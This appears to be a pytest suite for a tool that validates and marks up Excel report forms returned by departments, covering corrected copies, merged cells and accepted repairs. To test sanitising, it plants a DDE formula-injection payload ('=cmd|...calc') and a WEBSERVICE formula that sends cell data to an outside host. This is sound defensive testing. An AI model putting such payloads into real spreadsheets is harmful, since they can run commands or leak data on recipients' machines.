"""What a department gets back: its own file, marked where it is wrong; and what a coordinator accepts instead."""

from __future__ import annotations

import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
from lxml import etree

import xltrack as xt
from tests.coordinator import UNITS, Desk
from tests.forms import GOOD, columns, fill, item_rows
from tests.office import Job, Office
from tests.plans import bureau
from xltrack import pipeline
from xltrack.books.grid import read_grid
from xltrack.books.marking.causes import causes, example_of
from xltrack.books.marking.marks import HELD
from xltrack.books.marking.unmended import is_correction, is_unmended
from xltrack.books.master_write import write_master
from xltrack.books.ooxml.parts import parse
from xltrack.books.ooxml.prompts import add_prompt, drop_prompts
from xltrack.books.ooxml.stable import package_bytes
from xltrack.books.raw.namespaces import MAIN, X14, XM
from xltrack.findings import Finding
from xltrack.outputs.terminal import validate_lines
from xltrack.records import Column, Repair
from xltrack.rules import Rule
from xltrack.steps import repair

UNIT = "水务股"
LIST, FORM = "更正清单", "填报表"
LAGS = {"status": "未达序时进度", "progress": "正在办理。"}
DANGEROUS = "=cmd|' /C calc'!A0"


@pytest.fixture
def desk(tmp_path: Path) -> Path:
    """A folder with a master and the forms of its first period."""
    write_master(bureau(), tmp_path / "master.xlsx")
    pipeline.split(tmp_path / "master.xlsx", "上半年", tmp_path / "outbox")
    return tmp_path


def returned(desk: Path, *answers: dict[str, object], unit: str = UNIT, name: str = "", **preamble: object) -> Path:
    """A unit's form with its rows answered in turn; rows beyond the answers given are in order."""
    form = desk / "outbox" / "上半年" / f"{unit}.xlsx"
    ids = item_rows(openpyxl.load_workbook(form).worksheets[0])
    every = {i: (answers[n] if n < len(answers) else own_good(i)) for n, i in enumerate(ids)}
    return fill(form, every, desk / "returns" / (name or f"{unit}.xlsx"), **preamble)


def own_good(item: str) -> dict[str, object]:
    veto = bureau().item(item)
    return GOOD | {"status": "未发生"} if veto and veto.kind == "veto" else dict(GOOD)


def corrected(desk: Path, *paths: Path) -> list[Path]:
    result = pipeline.validate(
        [*paths] or [desk / "returns"], master=desk / "master.xlsx", corrections=desk / "corrections"
    )
    return list(result.corrections.values())


def lines(copy: Path) -> list[list[str]]:
    """The lines of the list below its header, as texts; formulas by the value they were written with."""
    rows = openpyxl.load_workbook(copy, data_only=True)[LIST].iter_rows(min_row=5, min_col=2, values_only=True)
    return [["" if v is None else str(v) for v in row] for row in rows]


def mend(copy: Path, values: dict[str, object]) -> Path:
    book = openpyxl.load_workbook(copy)
    for place, value in values.items():
        book[FORM][place].value = value
    book.save(copy)
    return copy


def status_cell(path: Path, nth: int) -> str:
    sheet = openpyxl.load_workbook(path)[FORM]
    return sheet.cell(list(item_rows(sheet).values())[nth], columns(sheet)["目标责任评估情况"]).coordinate


# ── the copy ───────────────────────────────────────────────────────────────────────────────────────────────────────


def test_a_return_without_errors_is_not_sent_back(desk: Path) -> None:
    returned(desk)
    assert corrected(desk) == []


def test_what_needs_no_mark_stays_byte_for_byte(desk: Path) -> None:
    source = returned(desk, {"status": "已完工", "progress": "做完了"})
    before = source.read_bytes()
    (copy,) = corrected(desk)
    with zipfile.ZipFile(source) as one, zipfile.ZipFile(copy) as other:
        theirs = {n: one.read(n) for n in one.namelist()}
        ours = {n: other.read(n) for n in other.namelist()}
    changed = {n for n, data in theirs.items() if ours.get(n) != data}
    form_part = "xl/worksheets/sheet1.xml"
    assert changed == {
        "[Content_Types].xml",
        "xl/_rels/workbook.xml.rels",
        "xl/workbook.xml",
        "xl/styles.xml",
        form_part,
    }
    assert len(set(ours) - set(theirs)) == 1  # the list
    assert source.read_bytes() == before


def test_validations_and_sparklines_of_the_extension_list_survive(desk: Path) -> None:
    source = returned(desk, {"status": "已完工", "progress": "做完了"})
    place, column = status_cell(source, 0), re.sub(r"\d", "", status_cell(source, 0))
    row = int(place.removeprefix(column))
    with zipfile.ZipFile(source) as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    name = "xl/worksheets/sheet1.xml"
    root = parse(parts[name])
    for old in root.findall(f"{{{MAIN}}}dataValidations"):
        root.remove(old)
    source_of_line = f"<xm:f>{FORM}!A1:B1</xm:f><xm:sqref>M1</xm:sqref>"
    line = f"<x14:sparklines><x14:sparkline>{source_of_line}</x14:sparkline></x14:sparklines>"
    group = f"<x14:sparklineGroup>{line}</x14:sparklineGroup>"
    listed = "<x14:formula1><xm:f>选项!$A$2:$A$5</xm:f></x14:formula1>"
    area = f"<xm:sqref>{column}{row}:{column}{row + 2}</xm:sqref>"
    rule = f'<x14:dataValidation type="list" allowBlank="1">{listed}{area}</x14:dataValidation>'
    ext = (
        f'<extLst xmlns="{MAIN}" xmlns:x14="{X14}" xmlns:xm="{XM}">'
        f'<ext uri="{{05C60535-1F16-4fd2-B633-F4F36F0B64E0}}"><x14:sparklineGroups>{group}</x14:sparklineGroups></ext>'
        f'<ext uri="{{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}}"><x14:dataValidations count="1">{rule}'
        "</x14:dataValidations></ext></extLst>"
    )
    root.append(etree.fromstring(ext))
    parts[name] = etree.tostring(root)
    source.write_bytes(package_bytes(parts))
    (copy,) = corrected(desk)
    with zipfile.ZipFile(copy) as archive:
        kept = parse(archive.read(name))
    assert kept.find(f".//{{{X14}}}sparkline") is not None
    rules = {e.findtext(f"{{{XM}}}sqref"): e for e in kept.iter(f"{{{X14}}}dataValidation")}
    assert set(rules) == {place, f"{column}{row + 1}:{column}{row + 2}"}
    assert rules[place].findtext(f".//{{{XM}}}f") == "选项!$A$2:$A$5"
    assert "已完工" in rules[place].get("prompt", "")


def test_a_marked_cell_keeps_its_dropdown_and_says_what_is_wrong(desk: Path) -> None:
    source = returned(desk, {"status": "已完工", "progress": "做完了"})
    place = status_cell(source, 0)
    (copy,) = corrected(desk)
    sheet = openpyxl.load_workbook(copy)[FORM]
    own = [v for v in sheet.data_validations.dataValidation if place in v.sqref]
    assert len(own) == 1
    assert own[0].type == "list"
    assert own[0].formula1 == "xltrack_status_regular"
    assert own[0].promptTitle == "请更正"
    assert all(word in own[0].prompt for word in ("已完工", "改为：已完成、"))


def test_the_cell_of_a_mark_holds_what_its_finding_quotes(desk: Path) -> None:
    source = returned(desk, {"status": "正在办", "progress": "做完了"}, {"status": "已完工", "progress": "做完了"})
    (copy,) = corrected(desk)
    book = openpyxl.load_workbook(copy)
    formulas = {
        str(c.sqref): c.rules[0].formula[0] for c in book[FORM].conditional_formatting if HELD in c.rules[0].formula[0]
    }
    wanted = {status_cell(source, 0): "正在办", status_cell(source, 1): "已完工"}
    assert set(formulas) == set(wanted)
    for place, said in wanted.items():
        number = int(re.search(rf"INDEX\({HELD},(\d+)\)", formulas[place])[1])
        assert book[LIST].cell(number + 1, 1).value == said == book[FORM][place].value


def test_one_cause_in_many_cells_is_one_line_and_the_gravest_comes_first(desk: Path) -> None:
    wrong = {"status": "已完工", "progress": ""}
    source = returned(desk, wrong, wrong, people={})
    (copy,) = corrected(desk)
    told = lines(copy)
    assert [row[1].partition("：")[0] for row in told[:2]] == ["目标责任评估情况", "“进展情况”未填"]
    assert told[0][2] == "已完工 ×2"
    assert told[0][4] == "已完成"
    assert told[0][6:8] == [status_cell(source, 0), status_cell(source, 1)]
    assert told[0][8] == ""
    assert told[-1][1] == "“电话”未填"
    sheet = openpyxl.load_workbook(copy)[LIST]
    links = {
        cell.coordinate: cell.hyperlink.location for row in sheet.iter_rows(min_row=5) for cell in row if cell.hyperlink
    }
    assert links["H5"] == f"'{FORM}'!{status_cell(source, 0)}"


def test_the_number_of_the_submission_is_raised(desk: Path) -> None:
    returned(desk, {"status": "已完工", "progress": "做完了"}, 第几次报送="3")
    (copy,) = corrected(desk)
    assert copy.name == f"{UNIT}-更正4.xlsx"
    mended = xt.merge([copy], plan=bureau())
    assert [f["state"] for f in mended.to_json()["files"]] == ["ignored"]
    mend(copy, {status_cell(copy, 0): "已完成"})
    log = xt.merge([copy], plan=bureau()).consolidation.returns
    assert log[log["file"] != ""]["submission"].tolist() == [4]


# ── what comes back ────────────────────────────────────────────────────────────────────────────────────────────────


def test_an_unmended_copy_among_the_returns_is_ignored_aloud(desk: Path) -> None:
    source = returned(desk, {"status": "已完工", "progress": "做完了"})
    (copy,) = corrected(desk)
    result = pipeline.validate([source, copy], master=desk / "master.xlsx")
    assert [(f.code, f.unit) for f in result.found if f.file == f"corrections/{copy.name}"] == [
        ("correction-unmended", UNIT)
    ]
    assert is_correction(read_grid(copy))
    assert not is_correction(read_grid(source))


def test_a_mended_copy_is_clean_and_counts_instead_of_the_first_return(desk: Path) -> None:
    source = returned(desk, {"status": "已完工", "progress": "做完了"})
    (copy,) = corrected(desk)
    mend(copy, {status_cell(copy, 0): "已完成"})
    again = pipeline.validate([source, copy], master=desk / "master.xlsx", corrections=desk / "again")
    assert [f for f in again.found if f.severity == "error" and f.file.startswith("corrections")] == []
    assert again.corrections == {}  # nobody is asked twice to mend the first one
    result = xt.merge([source, copy], plan=bureau())
    answers = result.answers[(result.answers["unit"] == UNIT) & result.answers["returned"]]
    assert answers["effective"].tolist()[0] == "completed"
    assert set(answers["submission"]) == {2}


def test_mending_a_cell_under_a_merge_destroys_no_progress(desk: Path) -> None:
    path = returned(desk, GOOD | {"progress": "两项一并推进。"})
    book = openpyxl.load_workbook(path)
    sheet = book[FORM]
    at, (first, second, *_) = columns(sheet), item_rows(sheet).values()
    progress, status = (openpyxl.utils.get_column_letter(at[h]) for h in ("进展情况", "目标责任评估情况"))
    sheet.merge_cells(f"{progress}{first}:{status}{second}")
    book.save(path)
    (copy,) = corrected(desk)
    marked = openpyxl.load_workbook(copy)[FORM]
    assert not [m for m in marked.merged_cells.ranges if m.min_row >= first and m.max_row <= second]
    wrong = {f"{status}{first}", f"{status}{second}"}
    assert wrong <= {link for line in lines(copy) for link in line}
    assert not any(marked[cell].protection.locked for cell in wrong | {f"{progress}{second}"})
    mend(copy, dict.fromkeys(wrong, "达到序时进度"))
    copy.replace(path)
    result = pipeline.merge_into([desk / "returns"], master=desk / "master.xlsx", new_ledger=True).consolidation
    answers = result.answers[result.answers["unit"] == UNIT]
    assert [*answers["progress"][:2]] == ["两项一并推进。"] * 2 and [*answers["self"][:2]] == ["达到序时进度"] * 2


def test_mending_a_cell_merged_with_its_neighbour_destroys_no_progress(desk: Path) -> None:
    path = returned(desk)
    book = openpyxl.load_workbook(path)
    sheet = book[FORM]
    at, row = columns(sheet), next(iter(item_rows(sheet).values()))
    status = openpyxl.utils.get_column_letter(at["目标责任评估情况"])
    sheet.merge_cells(start_row=row, end_row=row, start_column=at["进展情况"], end_column=at["目标责任评估情况"])
    book.save(path)
    (copy,) = corrected(desk)
    marked = openpyxl.load_workbook(copy)[FORM]
    assert f"{status}{row}" in {link for line in lines(copy) for link in line}
    assert marked.cell(row, at["进展情况"]).value == GOOD["progress"] and not marked[f"{status}{row}"].protection.locked


def test_a_copy_of_a_copy_shows_no_stale_mark(desk: Path) -> None:
    returned(desk, {"status": "已完工", "progress": "做完了"}, {"status": "正在办", "progress": "办着"})
    (copy,) = corrected(desk)
    first, second = status_cell(copy, 0), status_cell(copy, 1)
    mend(copy, {first: "已完成"})
    (again,) = corrected(desk, copy)
    assert again.name == f"{UNIT}-更正3.xlsx"
    book = openpyxl.load_workbook(again)
    assert book.sheetnames.count(LIST) == 1
    assert [str(c.sqref) for c in book[FORM].conditional_formatting if HELD in c.rules[0].formula[0]] == [second]
    told = {str(v.sqref): v.promptTitle for v in book[FORM].data_validations.dataValidation if v.promptTitle}
    assert told == {second: "请更正"}
    assert any(first in v.sqref and v.type == "list" for v in book[FORM].data_validations.dataValidation)


def test_a_copy_that_was_worked_on_is_never_overwritten(desk: Path) -> None:
    source = returned(desk, {"status": "已完工", "progress": "做完了"})
    (copy,) = corrected(desk)
    mend(copy, {status_cell(copy, 0): "已完成"})
    worked = copy.read_bytes()
    corrected(desk, source)
    assert (copy.parent / f"{copy.stem}.old.xlsx").read_bytes() == worked
    told = validate_lines(xt.validate([source], master=desk / "master.xlsx", corrections=copy.parent), "zh")
    assert "另有 1 份改动过的旧稿" in told[-1], "it may be what the unit sent back"
    same = copy.read_bytes()
    corrected(desk, source)
    assert copy.read_bytes() == same
    assert len(list(copy.parent.iterdir())) == 2


# ── what must not happen ───────────────────────────────────────────────────────────────────────────────────────────


def test_no_text_of_a_department_becomes_a_formula_or_a_placeholder(desk: Path) -> None:
    source = returned(desk, {"status": "已完工", "progress": ""}, {"status": "{{id}}", "progress": "{{text}}"})
    book = openpyxl.load_workbook(source)
    for place, text in ((status_cell(source, 0), DANGEROUS), (status_cell(source, 0).replace("E", "D"), "=1+1")):
        book[FORM][place].value = text
        book[FORM][place].data_type = "s"
    book.save(source)
    (copy,) = corrected(desk)
    with zipfile.ZipFile(copy) as archive:
        parts = [archive.read(n) for n in archive.namelist() if n.endswith(".xml")]
    formulas = [f for part in parts for f in re.findall(rb"<(?:\w+:)?f(?:ormula\d?)?[ >][^<]*", part)]
    assert formulas
    assert not [f for f in formulas if b"cmd" in f or b"{{" in f or b"1+1" in f]
    mend(copy, {status_cell(copy, 0): "已完成"})
    again = pipeline.validate([copy], master=desk / "master.xlsx")
    assert {f["state"] for f in again.files} == {"accepted"}  # quoting a placeholder makes no template


def test_a_file_that_acts_by_itself_is_not_passed_on(desk: Path) -> None:
    source = returned(desk, {"status": "已完工", "progress": "做完了"})
    book = openpyxl.load_workbook(source)
    book[FORM]["M1"].value = '=WEBSERVICE("http://example.org/"&A1)'
    book.save(source)
    (copy,) = corrected(desk)
    with zipfile.ZipFile(copy) as archive:
        assert not any(b"WEBSERVICE" in archive.read(n) for n in archive.namelist())
    sheet = openpyxl.load_workbook(copy)[FORM]
    assert sheet[status_cell(copy, 0)].value == "已完工"


def as_csv(source: Path) -> None:
    """The form saved as a table without cell formats."""
    rows = [
        ",".join('"' + str(v).replace('"', '""') + '"' if v is not None else "" for v in row)
        for row in openpyxl.load_workbook(source)[FORM].iter_rows(values_only=True)
    ]
    source.with_suffix(".csv").write_text("\n".join(rows), encoding="utf-8")
    source.unlink()


def test_what_a_unit_wrote_in_a_column_of_its_own_comes_back_in_a_fresh_form_and_is_merged(desk: Path) -> None:
    source = returned(desk, {"status": "已完工", "progress": "做完了"}, 填报时间="2022-06-18")
    book = openpyxl.load_workbook(source)
    sheet, last = book[FORM], book[FORM].max_column + 1
    head = next(c.row for row in sheet.iter_rows() for c in row if c.value == "编号")
    for row, said in zip((head, *item_rows(sheet).values()), ("资金来源", "财政", 36), strict=False):
        sheet.cell(row, last).value = said
    book.save(source)
    as_csv(source)
    (copy,) = corrected(desk)
    fresh = openpyxl.load_workbook(copy)[FORM]
    column = next(c.column for row in fresh.iter_rows() for c in row if c.value == "资金来源")
    cells = [fresh.cell(row, column) for row in item_rows(fresh).values()]
    assert [c.value for c in cells][:2] == ["财政", "36"] and not any(c.protection.locked for c in cells)
    shutil.copyfile(mend(copy, {status_cell(copy, 0): "已完成"}), desk / "returns" / copy.name)
    merged = pipeline.merge_into([desk / "returns"], master=desk / "master.xlsx", new_ledger=True)
    assert {"财政", "36"} <= set(merged.answers["资金来源"])


def test_a_table_without_cell_formats_comes_back_as_a_fresh_form_with_its_answers(desk: Path) -> None:
    as_csv(returned(desk, {"status": "已完工", "progress": "做完了"}, 填报时间="2022-06-18"))
    (copy,) = corrected(desk)
    fresh = openpyxl.load_workbook(copy)
    place = status_cell(copy, 0)
    assert fresh.sheetnames[0] == LIST
    assert fresh[FORM][place].value == "已完工"
    assert lines(copy)[0][6] == place
    assert "已改用新表" in fresh[LIST]["B2"].value
    mend(copy, {place: "已完成"})
    assert [f for f in pipeline.validate([copy], master=desk / "master.xlsx").found if f.severity == "error"] == []


def test_a_fresh_form_shows_the_last_periods_answer_whether_it_was_merged_or_only_validated(tmp_path: Path) -> None:
    office = Desk(tmp_path)
    office.period("上半年", GOOD | {"progress": "上半年办了一半。"})
    office.answer("三季度", GOOD | {"status": "已完工"}, units=UNITS[:1])
    as_csv(office.returns("三季度") / f"{UNITS[0]}.xlsx")
    made = pipeline.validate(
        [office.returns("三季度")], master=tmp_path / "master.xlsx", corrections=tmp_path / "corrections"
    )
    (copy,) = made.corrections.values()
    cells = [c.value for row in openpyxl.load_workbook(copy)[FORM].iter_rows() for c in row]
    assert any("上半年办了一半。" in str(said) for said in cells)


def test_no_name_from_a_file_leaves_the_folder(desk: Path) -> None:
    source = returned(desk, {"status": "已完工", "progress": "做完了"})
    book = openpyxl.load_workbook(source)
    other = book.copy_worksheet(book[FORM])
    other["M1"].value = "=WEBSERVICE(A1)"
    other.title = "..'.. "
    book[FORM].title = ".."
    book.save(source)
    made = corrected(desk)
    assert made
    assert {p.parent for p in made} == {desk / "corrections"}
    assert {p.name for p in desk.iterdir()} == {"corrections", "master.xlsx", "outbox", "returns"}


def test_files_of_one_name_get_copies_of_their_own(desk: Path) -> None:
    returned(desk, {"status": "已完工", "progress": "做完了"}, name="甲/表.xlsx")
    returned(desk, {"status": "已完工", "progress": "做完了"}, unit="环卫股", name="乙/表.xlsx")
    assert len({p.name for p in corrected(desk)}) == 2


# ── what is said ───────────────────────────────────────────────────────────────────────────────────────────────────


def test_an_example_keeps_the_rule_it_explains() -> None:
    rule = Rule("number", operator="between", low=200.0, high=300.0)
    column = Column("扬尘", "扬尘", 3, True, rules=(rule,))
    shown = example_of(Finding("number-out-of-range", found="5"), column, "zh")
    assert not rule.broken(float(shown))
    assert example_of(Finding("not-a-choice", hint="已完成"), column, "zh") == "已完成"


def test_what_only_the_office_can_settle_is_not_sent_to_the_department() -> None:
    assert causes([Finding("period-by-form"), Finding("name-contradicts", cell="A1")], [], "zh") == []


def test_a_message_parts_the_rule_of_a_block_and_joins_it_again() -> None:
    rule = '<dataValidation type="custom" sqref="B2:D9"><formula1>B2&gt;A2</formula1></dataValidation>'
    rules = f'<dataValidations count="1">{rule}</dataValidations>'
    xml = f'<worksheet xmlns="{MAIN}"><sheetData/>{rules}</worksheet>'
    root = parse(xml.encode())
    add_prompt(root, 5, 3, "请更正", "x" * 400)
    own = {e.get("sqref"): e for e in root.iter(f"{{{MAIN}}}dataValidation")}
    assert own["C5"].findtext(f"{{{MAIN}}}formula1") == "C5>B5"
    assert len(own["C5"].get("prompt", "")) == 255
    covered = {
        cell
        for sqref in own
        for area in sqref.split()
        for cell in openpyxl.utils.cell.rows_from_range(area)
        for cell in cell
    }
    assert len(covered) == 24
    drop_prompts(root, frozenset({"请更正"}))
    assert not [e for e in root.iter(f"{{{MAIN}}}dataValidation") if e.get("prompt")]


# ── rows that came apart ───────────────────────────────────────────────────────────────────────────────────────────


def parted(source: Path, *, filled_down: bool = False) -> Path:
    """The ids of a form sorted apart from their tasks, or one filled down over all."""
    book = openpyxl.load_workbook(source)
    rows = item_rows(book[FORM])
    for row, other in zip(rows.values(), [*list(rows)[1:], *list(rows)[:1]], strict=True):
        book[FORM].cell(row, 1).value = next(iter(rows)) if filled_down else other
    book.save(source)
    return source


@pytest.mark.parametrize("filled_down", [False, True])
def test_every_row_that_came_apart_is_listed_and_none_counts_unread(desk: Path, filled_down: bool) -> None:
    said = [GOOD | {"progress": f"第{n}项"} for n in range(2)]
    source = parted(returned(desk, *said), filled_down=filled_down)
    ids = list(item_rows(openpyxl.load_workbook(desk / "outbox/上半年" / f"{UNIT}.xlsx")[FORM]))
    before = source.read_bytes()
    (copy,) = corrected(desk)
    assert source.read_bytes() == before
    sheet = openpyxl.load_workbook(copy)[FORM]
    rows, place = item_rows(sheet), columns(sheet)
    assert list(rows) == ids, "the ids are right again without anyone typing one"
    assert [sheet.cell(r, place["进展情况"]).value for r in list(rows.values())[:2]] == ["第0项", "第1项"]
    wrong = [n for n in range(len(ids)) if n or not filled_down]  # filled down, the first row keeps its own id
    (line,) = lines(copy)
    assert int(line[5]) == len(wrong), "every wrong row is counted, not the first alone"
    assert [c for c in line[6:] if c] == [status_cell(copy, n) for n in wrong]
    assert "达到序时进度" in line[2], "what was chosen can be read"
    assert is_unmended(read_grid(copy))

    mend(copy, {status_cell(copy, n): "未发生" if n == 2 else "已完成" for n in wrong[:-1]})
    checked = pipeline.validate([copy], master=desk / "master.xlsx")
    assert [(f.code, f.cell) for f in checked.found if f.severity == "error"] == [
        ("required", status_cell(copy, wrong[-1]))
    ], "the row that nobody looked at does not count"


def test_what_belongs_to_no_task_is_quoted_when_rows_are_put_back(desk: Path) -> None:
    source = parted(returned(desk))
    book = openpyxl.load_workbook(source)
    row = next(iter(item_rows(book[FORM]).values()))
    place = columns(book[FORM])
    book[FORM].cell(row, place["目标责任名称"]).value = "另外一件事"
    book[FORM].cell(row, place["进展情况"]).value = "做了很多"
    book.save(source)
    (copy,) = corrected(desk)
    assert any("另外一件事" in line[2] and "做了很多" in line[2] for line in lines(copy))


def test_a_form_put_right_is_not_sent_back_again(desk: Path) -> None:
    parted(returned(desk))
    returned(desk, name="水务股更正.xlsx", 第几次报送="2")
    assert corrected(desk) == []


# ── accepted repairs ───────────────────────────────────────────────────────────────────────────────────────────────


def accept(path: Path, word: str = "是", /, **values: str) -> Path:
    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    for row in sheet.iter_rows(min_row=3):
        if row[2].value in values:
            row[3].value, row[5].value = values[row[2].value], word
    book.save(path)
    return path


def test_a_repair_accepted_once_holds_for_every_return_and_every_later_merge(desk: Path) -> None:
    wrong = {"status": "已完工", "progress": "做完了"}
    first, second = returned(desk, wrong, wrong), returned(desk, wrong, unit="环卫股")
    kept = first.read_bytes(), second.read_bytes()
    listed = desk / "suggestions.xlsx"
    pipeline.validate([desk / "returns"], master=desk / "master.xlsx", suggest=listed)
    row = next(openpyxl.load_workbook(listed).worksheets[0].iter_rows(min_row=3, values_only=True))
    assert row[2:5] == ("已完工", "已完成", 3)
    accept(listed, 已完工="已完成")
    checked = pipeline.validate([desk / "returns"], master=desk / "master.xlsx", accept=listed)
    assert [f.code for f in checked.found if f.severity == "error"] == []
    assert [(f.found, f.expected) for f in checked.found if f.code == "value-repaired"] == [("已完工", "已完成")] * 3
    once = pipeline.merge_into([desk / "returns"], master=desk / "master.xlsx", accept=listed)
    before = (desk / "status.xlsx").read_bytes()
    later = pipeline.merge_into([desk / "returns"], master=desk / "master.xlsx")
    assert (once.answers["effective"] == "completed").sum() == (later.answers["effective"] == "completed").sum() == 3
    assert (desk / "status.xlsx").read_bytes() == before
    log = openpyxl.load_workbook(desk / "status.xlsx")["修正记录"]
    assert {(r[2], r[3]) for r in log.iter_rows(min_row=2, values_only=True)} == {("已完工", "已完成")}
    assert log.max_row == 4
    assert (first.read_bytes(), second.read_bytes()) == kept


def test_an_answer_that_resembles_no_choice_is_listed_for_the_coordinator_to_say_what_it_means(desk: Path) -> None:
    returned(desk, {"status": "A", "progress": "按计划"}, {"status": "已完工", "progress": "做完了"})
    returned(desk, {"status": "A", "progress": "按计划"}, unit="环卫股")
    listed = desk / "suggestions.xlsx"
    pipeline.validate([desk / "returns"], master=desk / "master.xlsx", suggest=listed)
    rows = openpyxl.load_workbook(listed).worksheets[0].iter_rows(min_row=3, values_only=True)
    assert [row[2:5] for row in rows] == [("A", None, 2), ("已完工", "已完成", 1)]
    accept(listed, A="达到序时进度")
    checked = pipeline.validate([desk / "returns"], master=desk / "master.xlsx", accept=listed)
    assert [(f.found, f.expected) for f in checked.found if f.code == "value-repaired"] == [("A", "达到序时进度")] * 2


def test_a_line_accepted_without_saying_what_it_becomes_is_pointed_out(desk: Path) -> None:
    source = returned(desk, {"status": "A", "progress": "按计划"})
    listed = desk / "suggestions.xlsx"
    pipeline.validate([source], master=desk / "master.xlsx", suggest=listed)
    accept(listed, A="")
    with pytest.raises(xt.XltrackError) as refused:
        pipeline.validate([source], master=desk / "master.xlsx", accept=listed)
    assert refused.value.code == "suggestion-without-value" and "suggestions.xlsx D3：采纳了“A”" in str(refused.value)


@pytest.mark.parametrize("word", ["√", "☑", "采纳", "Yes", "是 "])
def test_a_ticked_line_is_accepted_as_a_tick_in_the_status_workbook_is(desk: Path, word: str) -> None:
    returned(desk, {"status": "已完工", "progress": "做完了"})
    listed = desk / "suggestions.xlsx"
    pipeline.validate([desk / "returns"], master=desk / "master.xlsx", suggest=listed)
    accept(listed, word, 已完工="已完成")
    checked = pipeline.validate([desk / "returns"], master=desk / "master.xlsx", accept=listed)
    assert [f.expected for f in checked.found if f.code == "value-repaired"] == ["已完成"]


def test_a_line_that_may_be_accepted_or_not_is_not_passed_over(desk: Path) -> None:
    source = returned(desk, {"status": "已完工", "progress": "做完了"})
    listed = desk / "suggestions.xlsx"
    pipeline.validate([source], master=desk / "master.xlsx", suggest=listed)
    accept(listed, "待定", 已完工="已完成")
    with pytest.raises(xt.XltrackError) as refused:
        pipeline.validate([source], master=desk / "master.xlsx", accept=listed)
    assert refused.value.code == "suggestion-unclear" and "suggestions.xlsx F3：“待定”" in str(refused.value)


def test_nothing_is_repaired_that_was_not_accepted(desk: Path) -> None:
    returned(desk, {"status": "已完工", "progress": "做完了"}, {"status": "正在办", "progress": "办着"})
    listed = desk / "suggestions.xlsx"
    pipeline.validate([desk / "returns"], master=desk / "master.xlsx", suggest=listed)
    accept(listed, 正在办="未达序时进度")
    checked = pipeline.validate([desk / "returns", listed], master=desk / "master.xlsx", accept=listed)
    assert [f.found for f in checked.found if f.code == "not-a-choice"] == ["已完工"]
    assert [f.expected for f in checked.found if f.code == "value-repaired"] == ["未达序时进度"]
    assert [f["state"] for f in checked.files if f["path"].endswith("suggestions.xlsx")] == ["ignored"]


def test_a_wrong_list_of_repairs_is_refused(desk: Path) -> None:
    source = returned(desk)
    with pytest.raises(xt.XltrackError) as refused:
        pipeline.validate([source], master=desk / "master.xlsx", accept=source)
    assert refused.value.code == "not-suggestions"


def test_an_accepted_repair_that_stands_nowhere_yet_is_not_forgotten() -> None:
    waiting = repair.log_of([], [Repair("status", "veto", "没有", "未发生")], [], "zh")
    assert repair.accepted_in(waiting) == (Repair("status", "veto", "没有", "未发生"),)
    assert repair.accepted_in(repair.log_of(waiting, repair.accepted_in(waiting), [], "en")) == repair.accepted_in(
        waiting
    )


# ── a real office program ──────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.office
def test_the_list_ticks_off_what_is_mended_and_nothing_else(desk: Path, office: Office) -> None:
    wrong = {"status": "已完工", "progress": "  "}
    source = returned(desk, wrong, wrong, {"status": "未发生", "progress": ""})
    (copy,) = corrected(desk)
    first = status_cell(source, 0)
    saved = desk / "mended.xlsx"
    edits = [["sheet", FORM], ["text", first, "已完成"], ["recalculate"]]
    (cells,) = office.edit([Job(copy, saved, edits)])
    assert cells[LIST]["H5"] == f"✔ {first}"
    assert cells[LIST]["I5"] == status_cell(source, 1)
    assert cells[LIST]["G5"] == "1"
    left = sum(int(v) for place, v in cells[LIST].items() if place.startswith("G") and v.isdigit())
    assert cells[LIST]["B3"] == f"还差 {left} 处"
    result = pipeline.validate([saved], master=desk / "master.xlsx", corrections=desk / "again")
    assert first not in {f.cell for f in result.found if f.severity == "error"}
    assert result.corrections


@pytest.mark.office
@pytest.mark.parametrize("ending", ["xlsx", "xls", "ods"])
def test_an_unmended_copy_is_known_after_an_office_program_saved_it(desk: Path, office: Office, ending: str) -> None:
    returned(desk, {"status": "已完工", "progress": "一行\n二行 = 3"}, 填报时间="2022-06-18")
    (copy,) = corrected(desk)
    saved = desk / f"saved.{ending}"
    office.edit([Job(copy, saved)])
    assert is_unmended(read_grid(saved))


@pytest.mark.office
def test_an_old_excel_file_comes_back_as_a_form_that_says_the_same(desk: Path, office: Office) -> None:
    source = returned(desk, {"status": "已完工", "progress": "做完了"}, LAGS)
    old = source.with_suffix(".xls")
    office.edit([Job(source, old)])
    source.unlink()
    (copy,) = corrected(desk)
    told = {row[1] for row in lines(copy)}
    assert any("滞后原因" in message for message in told)
    place = status_cell(copy, 0)
    assert openpyxl.load_workbook(copy)[FORM][place].value == "已完工"
    assert is_unmended(read_grid(copy))
